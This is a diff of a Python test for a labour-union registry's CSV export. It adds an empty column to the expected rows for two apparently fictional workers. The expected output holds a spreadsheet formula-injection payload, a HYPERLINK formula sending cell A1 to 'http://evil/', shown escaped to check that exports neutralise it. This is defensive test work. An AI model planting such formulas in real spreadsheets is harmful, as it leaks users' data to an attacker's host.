@@ -55,10 +55,10 @@ def _expected(references: list[str]) -> list[list[Any]]:
     return [
         ["张三", "男", "1975-03-12", "310104197503122014", "农民工", "13912345678", "农业", "外省市", "初中",
          "农民工", "在岗", "杨浦区总工会", "技能培训:电工(五级)晚班;求职登记", f"{references[0]}、{references[2]}",
-         "2011-07-01", "电工", "五级", "0012", "2011-07-01", EVIL, "2011-07-01", 12, None, None, None, None],
+         "2011-07-01", "电工", "五级", "0012", "2011-07-01", EVIL, "2011-07-01", 12, None, None, None, None, None],
         ["买买提·艾力", "女", "1972-09-18", "412728197209183069", "失(无)业", "15800001111", "非农业", "本市", "初中",
          "就业困难人员", "失业(已登记)", "黄浦区总工会", "求职登记", references[3],
-         None, None, None, None, None, None, None, None, None, None, None, "2011-06-30"],
+         None, None, None, None, None, None, None, None, None, None, None, None, "2011-06-30"],
     ]  # fmt: skip
 
 
@@ -94,7 +94,7 @@ def test_register_csv_is_the_same_from_web_and_command(
         f"\ufeff{header}\r\n"
         "张三,男,1975-03-12,310104197503122014,农民工,13912345678,农业,外省市,初中,农民工,在岗,杨浦区总工会,"
         f"技能培训:电工(五级)晚班;求职登记,{references[0]}、{references[2]},2011-07-01,电工,五级,0012,2011-07-01,"
-        '"\'=HYPERLINK(""http://evil/?""&A1,""点我"")",2011-07-01,12,,,,\r\n'
+        '"\'=HYPERLINK(""http://evil/?""&A1,""点我"")",2011-07-01,12,,,,,\r\n'
     )
     out = tmp_path / "yangpu.csv"
     result = portal_command(
